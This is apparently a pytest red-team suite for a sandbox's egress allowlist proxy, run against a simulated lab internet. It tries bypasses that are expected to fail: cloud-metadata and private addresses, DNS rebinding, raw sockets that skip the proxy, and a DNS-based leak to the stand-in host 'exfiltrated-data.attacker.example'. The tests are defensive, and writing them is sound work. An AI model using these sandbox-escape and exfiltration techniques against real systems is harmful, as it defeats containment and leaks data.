"""With an allowlist, what it lists is reached and nothing else is, and the audit says why.

Every destination that is refused here is one that the host itself reaches: the control.
"""

import json
from collections.abc import Iterator

import pytest

from tests.lab import internet as lab
from tests.lab.internet import Internet
from tests.lab.internet_content import GREETING
from tests.redteam.egress import NO_ROUTE, allowlist, configured, networked

pytestmark = [
    pytest.mark.needs("daemon"),
    pytest.mark.also("uml"),
    pytest.mark.gate("gate.sandbox.egress_allowlisted"),
]
FETCH = """
context = ssl.create_default_context(cafile="ca.pem")
code, body, s = head(ask("files.lab-allowed.com:443"))
assert code == 200, body
s = context.wrap_socket(s, server_hostname="files.lab-allowed.com")
s.sendall(b"GET /files/greeting.txt HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n")
data = b""
while piece := s.recv(4096):
    data += piece
sys.stdout.buffer.write(data.partition(b"\\r\\n\\r\\n")[2])
"""
# What is asked for, the status, the reason, and where the host finds it.
REFUSED = (
    ("other.lab-public.com:443", 403, "host_not_listed", lab.OTHER, 443),
    ("files.lab-allowed.com:8443", 403, "port_not_listed", lab.ALLOWED, 8443),
    ("pypi.lab-allowed.com:7777", 403, "port_not_listed", lab.ALLOWED, 7777),
    ("private.lab-allowed.com:443", 403, "address_refused", lab.PRIVATE, 443),
    ("metadata.lab-allowed.com:443", 403, "address_refused", lab.METADATA, 443),
    ("mapped.lab-allowed.com:443", 403, "address_refused", lab.METADATA, 443),
    ("on-link.lab-allowed.com:443", 403, "host_network", lab.LINK_PEER, 443),
    ("host.lab-allowed.com:443", 403, "host_network", lab.LINK, 443),
)
# Refused before any rule is looked at.
LITERAL = (
    (f"{lab.ALLOWED}:443", lab.ALLOWED, 443),
    (f"{lab.PRIVATE}:443", lab.PRIVATE, 443),
    (f"{lab.METADATA}:80", lab.METADATA, 80),
)


@pytest.fixture(scope="module")
def internet() -> Iterator[Internet]:
    with lab.internet() as built, configured(allowlist()):
        yield built


async def test_a_listed_destination_is_reached_and_recorded(internet: Internet) -> None:
    async with networked() as one:
        await one.workspace.write("ca.pem", internet.ca)
        result = await one.ask(FETCH)
        assert result.stdout == GREETING, result
        allowed, closed = one.egress()
        assert allowed["SBX_EVENT"] == "EgressAllowed"
        assert allowed["SBX_HOST"] == "files.lab-allowed.com"
        assert allowed["SBX_PORT"] == "443"
        assert allowed["SBX_ADDRESS"] == lab.ALLOWED
        assert allowed["SBX_RUN_ID"] == one.handle.run_id
        assert allowed["SBX_TENANT_ID"] == one.handle.tenant_id
        assert allowed["SBX_COMMAND_NUMBER"] == "1"
        assert closed["SBX_EVENT"] == "EgressTunnelClosed"
        assert int(closed["SBX_DOWN_BYTES"]) > len(GREETING)


async def test_nothing_else_is_reached_and_each_refusal_is_recorded_with_its_reason(
    internet: Internet,
) -> None:
    for *_, address, port in REFUSED:
        assert internet.reaches(address, port), (address, port)
    before = internet.connections()
    async with networked() as one:
        answers = await one.statuses(*(target for target, *_ in REFUSED))
        for (target, status, reason, address, _), (got, body) in zip(REFUSED, answers, strict=True):
            assert (target, got) == (target, status), body
            assert reason in body
            assert address not in body, "the sandbox does not learn addresses"
            assert "remedy: " in body
        assert one.decisions() == [
            ("EgressRefused", target, reason) for target, _, reason, _, _ in REFUSED
        ]
        recorded = {each["SBX_HOST"]: each.get("SBX_ADDRESS") for each in one.egress()}
        assert recorded["private.lab-allowed.com"] == lab.PRIVATE
        assert recorded["on-link.lab-allowed.com"] == lab.LINK_PEER
        violations = {each["SBX_VIOLATION"] for each in one.egress()}
        assert violations == {"EGRESS_DENIED"}
    assert internet.connections() == before


async def test_an_address_is_never_a_destination(internet: Internet) -> None:
    async with networked() as one:
        answers = await one.statuses(*(target for target, *_ in LITERAL))
        assert [status for status, _ in answers] == [400, 400, 400]
        assert len(one.decisions()) == len(LITERAL)
        assert all(each[0] == "EgressRefused" for each in one.decisions())
    for _, address, port in LITERAL:
        assert internet.reaches(address, port), (address, port)


@pytest.mark.case("EGR-01")
async def test_a_program_that_ignores_the_proxy_reaches_nothing_and_is_not_heard_of(
    internet: Internet,
) -> None:
    """Also while the proxy listens for it."""
    targets = [
        (lab.ALLOWED, 443), (lab.OTHER, 443), (lab.PRIVATE, 443), (lab.METADATA, 80),
        (lab.LINK_PEER, 443), (lab.NAME_SERVER, 53),
    ]  # fmt: skip
    before = internet.questions()
    async with networked() as one:
        source = f"""
import errno
def direct(address):
    try:
        socket.create_connection(address, 10).close()
    except OSError as problem:
        return errno.errorcode.get(problem.errno, type(problem).__name__)
    return "ok"
def kind(*words):
    try:
        socket.socket(*words).close()
    except OSError as problem:
        return errno.errorcode[problem.errno]
    return "ok"
print(json.dumps([
    [direct(address) for address in {targets!r}],
    [kind(2, 2), kind(10, 2), kind(2, 3, 1)],
    direct(("files.lab-allowed.com", 443)),
    status("files.lab-allowed.com:443")[0],
]))
"""
        result = await one.ask(source)
        direct, kinds, by_name, through = json.loads(result.stdout)
        assert set(direct) <= set(NO_ROUTE)
        assert set(kinds) <= {"EPROTONOSUPPORT", "EAFNOSUPPORT", "EPERM", "EACCES"}
        assert by_name not in ("ok", *NO_ROUTE), "it has no resolver"
        assert through == 200, "the control: the same program through the proxy"
        assert one.decisions() == [("EgressAllowed", "files.lab-allowed.com:443", None)]
    assert {question.split()[0] for question in internet.questions()[len(before) :]} == {
        "files.lab-allowed.com"
    }


@pytest.mark.case("EGR-07")
async def test_a_name_that_rebinds_is_looked_up_once_and_dialled_as_it_was_judged(
    internet: Internet,
) -> None:
    name = "rebinding.lab-allowed.com"
    async with networked() as one:
        first, second, third = await one.statuses(*[f"{name}:443"] * 3)
        assert (first[0], second[0], third[0]) == (200, 403, 403)
        allowed, private, metadata = one.recorded("EgressAllowed", "EgressRefused")
        assert allowed["SBX_ADDRESS"] == lab.ALLOWED
        assert (private["SBX_ADDRESS"], metadata["SBX_ADDRESS"]) == (lab.PRIVATE, lab.METADATA)
    asked = [each for each in internet.questions() if each.startswith(name)]
    assert sorted(asked) == sorted([f"{name} A", f"{name} AAAA"] * 3), "one lookup per CONNECT"


@pytest.mark.case("EGR-08")
async def test_one_bad_address_of_many_refuses_all(internet: Internet) -> None:
    names = ("mixed", "mixed-six", "many")
    before = internet.connections()
    async with networked() as one:
        targets = [f"{name}.lab-allowed.com:443" for name in names]
        answers = await one.statuses(*targets)
        assert [status for status, _ in answers] == [403, 403, 403]
        assert one.decisions() == [("EgressRefused", t, "address_refused") for t in targets]
    assert internet.connections() == before
    for address in (lab.ALLOWED, lab.PRIVATE):
        assert internet.reaches(address, 443)


async def test_an_ipv6_destination_is_reached(internet: Internet) -> None:
    async with networked() as one:
        assert (await one.statuses("six.lab-allowed.com:443"))[0][0] == 200
        assert one.egress()[0]["SBX_ADDRESS"] == lab.ALLOWED_6


@pytest.mark.case("EGR-02")
async def test_a_name_that_is_not_listed_is_never_looked_up(internet: Internet) -> None:
    async with networked() as one:
        secret = "exfiltrated-data.attacker.example"
        answers = await one.statuses(f"{secret}:443", "nowhere.lab-allowed.com:443")
        assert [status for status, _ in answers] == [403, 502]
        assert one.decisions()[1][0] == "EgressFailed"
    questions = "\n".join(internet.questions())
    assert secret not in questions
    assert "nowhere.lab-allowed.com A" in questions, "the control: a listed one is"
